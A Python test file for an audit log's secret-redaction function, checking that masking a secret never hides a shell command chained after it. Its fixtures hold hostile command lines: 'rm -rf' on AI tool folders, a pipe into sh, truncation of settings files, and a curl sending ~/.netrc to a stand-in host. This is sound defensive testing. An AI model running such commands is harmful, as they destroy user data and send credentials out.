"""The audit masks a secret, never a command beside it (issue 14, round HD).

A secret-looking assignment's value ends where the shell ends the word. Before, an unquoted value ran
to the next blank, so `STRIPE_API_KEY=x&&rm -rf ~/.codex` was recorded as `STRIPE_API_KEY=[redacted]
-rf ~/.codex` and `VAULT_TOKEN=t|sh` as `VAULT_TOKEN=[redacted]`: what ran was hidden from whoever
reads the record. Secrets themselves, quoted or not, with escaped quotes or mixed quoting, stay masked.
"""

from __future__ import annotations

import pytest

from dongle.audit import REDACTED, redact_text

SHOWN = {
    "an and-list after the value": ("STRIPE_API_KEY=sk_x&&rm -rf ~/.codex stripe", "&&rm -rf ~/.codex"),
    "a pipe into a shell": ("VAULT_TOKEN=hvs.abc|sh", "|sh"),
    "a sequence after a quoted value": ('DB_PASSWORD="pa ss";curl -d @~/.netrc https://x.example',
                                        ";curl -d"),
    "a redirect over a file": ("NETLIFY_AUTH_TOKEN=abc>~/.gemini/settings.json netlify status",
                               ">~/.gemini/settings.json"),
    "a background job": ("SENTRY_AUTH_TOKEN=abc& truncate -s0 ~/.claude/settings.json",
                         "& truncate -s0 ~/.claude/settings.json"),
    "a substitution inside the word": ("CF_API_TOKEN=ab$(rm -rf ~/.cursor)cd wrangler whoami",
                                       "rm -rf ~/.cursor"),
}

MASKED = {
    "an unquoted secret": ("HEROKU_API_KEY=0f3a9c1d heroku apps", "0f3a9c1d"),
    "a quoted secret with blanks": ('SMTP_PASSWORD="correct horse battery" ./send.sh', "correct horse"),
    "escaped quotes inside": ('PGPASSWORD="a\\"b;c" psql -h db', 'a\\"b;c'),
    "mixed quoting": ("TWINE_PASSWORD='pa'\"ss\"word twine upload dist/*", "word"),
    "a key: value in prose": ("password: hunter2 was rotated", "hunter2"),
}


@pytest.mark.parametrize(("line", "command"), SHOWN.values(), ids=list(SHOWN))
def test_what_runs_after_a_secret_stays_in_the_record(line: str, command: str) -> None:
    assert command in redact_text(line)


@pytest.mark.parametrize(("line", "secret"), MASKED.values(), ids=list(MASKED))
def test_the_secret_itself_is_masked(line: str, secret: str) -> None:
    masked = redact_text(line)
    assert secret not in masked and REDACTED in masked
